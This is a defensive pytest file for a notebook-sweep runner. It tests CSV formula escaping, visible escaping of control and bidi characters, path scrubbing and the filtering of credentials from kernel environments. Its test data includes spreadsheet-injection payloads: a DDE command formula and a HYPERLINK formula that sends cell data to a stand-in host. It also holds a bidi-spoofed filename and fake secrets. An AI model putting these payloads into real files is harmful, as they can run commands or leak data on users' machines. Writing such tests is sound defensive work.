"""Issue 16, what reaches shared files (points 4, 10, 11, 13b).

- index.csv cells a spreadsheet would run as formulas (``=cmd|' /C calc'!A0``, ``=HYPERLINK``,
  ``@SUM``, ``+``, ``-``, a leading tab) start with ``'``; plain numbers stay numbers.
- NUL and U+202E (and other control or bidi characters) appear as visible escapes in index.*.
- Paths are replaced only on path boundaries (``/x/project_out`` stays), also in notebook.ipynb
  tracebacks, and the placeholder is escaped HTML text (``&lt;project&gt;``), not an element.
- Credentials never reach a kernel, by name or by the shape of the value (the issue's examples).
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import nbformat
import pytest

from sanctions_model.runner.cli import main
from sanctions_model.runner.execute import kernel_environment
from sanctions_model.runner.index import csv_cell
from sanctions_model.runner.records import read_record

from .conftest import NOTEBOOKS, write_sweep
from .test_security import _env_notebook

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
HIDDEN = "a\x00b\u202ecod.exe\x1b[31m"


def test_csv_cell_rule():
    for text in FORMULAS + ["\r=1", "=1", "-", "+", "@"]:
        assert csv_cell(text).startswith("'"), text
    for number in ["-1.5", "+2", "-3e-4", "12", "0.5", ".5", "-.5"]:
        assert csv_cell(number) == number
    assert csv_cell("plain text") == "plain text"
    assert csv_cell("a\x00b\u202ec") == "a\\x00b\\u202ec"


@pytest.fixture(scope="module")
def hostile_sweep(tmp_path_factory, kernel):
    tmp = tmp_path_factory.mktemp("hostile")
    runs = [{"text": t} for t in [*FORMULAS, HIDDEN, "-1.5"]]
    sweep = write_sweep(
        tmp / "s.yaml",
        f"name: h\nnotebooks: [{NOTEBOOKS}/hostile.ipynb]\nruns: {json.dumps(runs)}\n",
    )
    root = tmp / "out"
    assert main(["sweep", str(sweep), "--output-root", str(root), "--quiet", "--workers", "2"]) == 0
    return (root / "h" / "latest").resolve()


@pytest.mark.slow
def test_index_csv_is_spreadsheet_safe(hostile_sweep):
    with open(hostile_sweep / "index.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS) + 2
    dangerous = 0
    for row in rows:
        for column in ("param.text", "result.text"):
            cell = row[column]
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert cell == "-1.5", (column, cell)  # the one plain number
            elif cell.startswith("'"):
                dangerous += 1
    assert dangerous == 2 * len(FORMULAS)  # every formula, in parameters and in results
    assert {row["result.text"] for row in rows} >= {"-1.5", "'=cmd|' /C calc'!A0"}


@pytest.mark.slow
def test_control_and_bidi_characters_are_visible(hostile_sweep):
    root = hostile_sweep.parent
    for page in [
        hostile_sweep / "index.csv",
        hostile_sweep / "index.html",
        hostile_sweep / "runs.html",
        root / "index.html",
        root / "index.csv",
    ]:
        if not page.exists():
            continue
        text = page.read_text(encoding="utf-8")
        assert "\x00" not in text and "\u202e" not in text and "\x1b" not in text, page
        if page.name in ("index.csv", "runs.html"):
            assert "a\\x00b\\u202ecod.exe\\x1b[31m" in text, page.name
    # the run itself kept the exact value (only the shared index shows it escaped)
    [record] = [
        r
        for d in hostile_sweep.iterdir()
        if d.is_dir() and (r := read_record(d))
        if "cod" in str(r.parameters)
    ]
    assert record.results["text"] == HIDDEN


# -- point 10: path scrubbing -------------------------------------------------------------------


def _paths_notebook(path: Path) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "sanctions-model",
        "display_name": "s",
        "language": "python",
    }
    params = nbformat.v4.new_code_cell('where: str = ""  # a folder')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [
        nbformat.v4.new_markdown_cell("# Paths"),
        params,
        nbformat.v4.new_code_cell(
            "print('data at', where + '/data/file.csv')\nprint('sibling', where + '_out/x.txt')"
        ),
        nbformat.v4.new_code_cell("open(where + '/missing/file.csv')"),
    ]
    nbformat.write(nb, str(path))
    return path


@pytest.mark.slow
def test_paths_are_scrubbed_on_boundaries_and_escaped(tmp_path, kernel, monkeypatch):
    project = tmp_path / "project"
    project.mkdir()
    nb = _paths_notebook(project / "paths.ipynb")
    monkeypatch.chdir(project)
    out = project / "out" / "r"
    rc = main(["run", str(nb), "-p", "where", str(project), "--output-dir", str(out)])
    assert rc == 1  # the last cell raises FileNotFoundError on purpose
    record = read_record(out)
    assert record.error["evalue"].endswith("'<project>/missing/file.csv'"), record.error
    executed = (out / "notebook.ipynb").read_text(encoding="utf-8")
    report = (out / "report.html").read_text(encoding="utf-8")
    for text in (executed, report):
        assert f"{project}/" not in text  # every path inside the project is scrubbed ...
        assert f"{project}_out/x.txt" in text  # ... and a sibling folder is not "<project>_out"
        assert "<project>_out" not in text and "&lt;project&gt;_out" not in text
    assert "<project>/missing/file.csv" in executed  # the traceback in the notebook too
    assert "&lt;project&gt;/data/file.csv" in report
    assert "<project>" not in report  # never an element the browser would swallow


# -- point 11: secrets ------------------------------------------------------------------------------

ISSUE_SECRETS = {
    "DATABASE_URL": "postgres://u:PASSfake9c1@db.example.invalid:5432/x",
    "MYSQL_PWD": "mysqlfake77aa",
    "GH_PAT": "ghp_fakeFAKEfake0123456789abcdefABCDEF",
    "SENTRY_DSN": "https://fakekey5f3e@o1.ingest.sentry.invalid/1",
    "AWS_ACCESS_KEY_ID": "AKIAFAKEFAKE12345678",
    "SANCTIONS_MODEL_MIRROR": "https://user:tok3nfake@mirror.example.invalid/data",
    "GITLAB": "glpat-fakefakefake12345",
    "SLACK_HOOK_FOR_ALERTS": "xoxb-fake-1234567890-abcdef",
    "STRIPE": "sk_live_fakefakefake1234",
    "UNRELATED_SETTING": "harmless-but-not-allowed-0x17",
}


def test_kernel_environment_drops_the_issue_examples():
    env = {**ISSUE_SECRETS, "PATH": "/bin", "HOME": "/h", "LANG": "C", "LC_ALL": "C.UTF-8"}
    env |= {"SANCTIONS_MODEL_DATA_DIR": "/d", "MPLBACKEND": "Agg", "OMP_NUM_THREADS": "1"}
    kept = kernel_environment(env)
    assert kept == {
        "PATH": "/bin", "HOME": "/h", "LANG": "C", "LC_ALL": "C.UTF-8",
        "SANCTIONS_MODEL_DATA_DIR": "/d", "MPLBACKEND": "Agg", "OMP_NUM_THREADS": "1",
    }  # fmt: skip
    # an explicitly allowed name passes, but still not with a credential-shaped value
    env |= {"SANCTIONS_MODEL_KERNEL_ENV": "UNRELATED_SETTING,DATABASE_URL"}
    kept = kernel_environment(env)
    assert kept["UNRELATED_SETTING"] == ISSUE_SECRETS["UNRELATED_SETTING"]
    assert "DATABASE_URL" not in kept


@pytest.mark.slow
def test_issue_secrets_never_reach_outputs(tmp_path, kernel):
    nb = _env_notebook(tmp_path / "env.ipynb")
    out = tmp_path / "out"
    env = {**os.environ, **ISSUE_SECRETS, "SANCTIONS_MODEL_KERNEL_ENV": "UNRELATED_SETTING"}
    proc = subprocess.run(
        [sys.executable, "-m", "sanctions_model.runner.cli", "run", str(nb), "--output-dir", str(out)],
        env=env, cwd=tmp_path, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr  # the notebook raises with its environment
    seen = json.loads((out / "results.json").read_text())["env"]
    assert seen["UNRELATED_SETTING"] == ISSUE_SECRETS["UNRELATED_SETTING"]  # allowed by name
    assert "PATH" in seen and "HOME" in seen
    everything = b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    everything += (proc.stdout + proc.stderr).encode()
    for name, value in ISSUE_SECRETS.items():
        if name != "UNRELATED_SETTING":
            assert value.encode() not in everything, name
